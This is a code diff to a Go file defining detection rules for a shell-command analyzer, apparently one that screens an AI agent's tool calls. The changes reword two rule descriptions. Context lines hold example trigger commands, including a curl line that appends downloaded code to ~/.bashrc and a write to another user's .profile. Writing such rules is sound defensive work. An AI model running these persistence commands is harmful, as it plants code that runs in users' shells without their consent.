@@ -110,7 +110,7 @@ var (
 	ruleInstallScript = &ShellRule{ID: "install-script", Analyzer: AnalyzerFiles, Levels: lvMed, Category: catAction, Action: true,
 		Doc: "a write of `package.json` (or another manifest) whose install scripts run on every install: the script is also judged as a command"}
 	ruleExecConfigWrite = &ShellRule{ID: "exec-config-write", Analyzer: AnalyzerFiles, Levels: lvMed, Category: catAction, Action: true,
-		Doc: "a write of a file that tools execute or take execution settings from (`.git/config`, hooks, Makefiles, `.envrc`, editor tasks, CI workflows, notebooks): its content is judged as if it ran"}
+		Doc: "a write of a file that tools execute or take execution settings from (`.git/config`, hooks, Makefiles, `.envrc`, editor tasks, CI workflows, notebooks): its content is judged as if it ran (a shell start-up file's content is judged the same way, under shell-rc-write)"}
 	ruleMCPOddName = &ShellRule{ID: "mcp-odd-name", Analyzer: AnalyzerTool, Levels: lvMed, Category: catAction, Action: true,
 		Doc: "a tool name that is not an MCP tool name (too long, or characters outside the name alphabet), shown cut to 64 bytes"}
 	ruleToolArgsBudget = &ShellRule{ID: "tool-args-budget", Analyzer: AnalyzerTool, Levels: lvHigh, Category: catAction, Action: true,
@@ -282,7 +282,7 @@ var (
 		Doc:   "writes another user's shell start-up file, or downloaded/decoded code into one's own",
 		Fires: []string{"echo x > /home/bob/.profile", "curl -s https://x.example/rc >> ~/.bashrc"}, Quiet: []string{"echo x > /tmp/t/.bashrc"}}
 	ruleShellRcWrite = &ShellRule{ID: "shell-rc-write", Analyzer: AnalyzerFiles, Levels: lvMed, Category: catPersist,
-		Doc:   "writes the user's own shell start-up file (content judged too)",
+		Doc:   "writes the user's own shell start-up file (`~/.bashrc`, `~/.profile`, `~/.zshrc` …); what it writes is judged as the shell would run it at the next start",
 		Fires: []string{"echo 'export EDITOR=vim' >> ~/.bashrc"}, Quiet: []string{"cat ~/.bashrc"}}
 	ruleSystemProfileWrite = &ShellRule{ID: "system-profile-write", Analyzer: AnalyzerFiles, Levels: lvHigh, Category: catPersist,
 		Doc:   "writes `/etc/profile`, `/etc/profile.d`, `/etc/bash.bashrc`, `/etc/environment`: code in every user's shell",
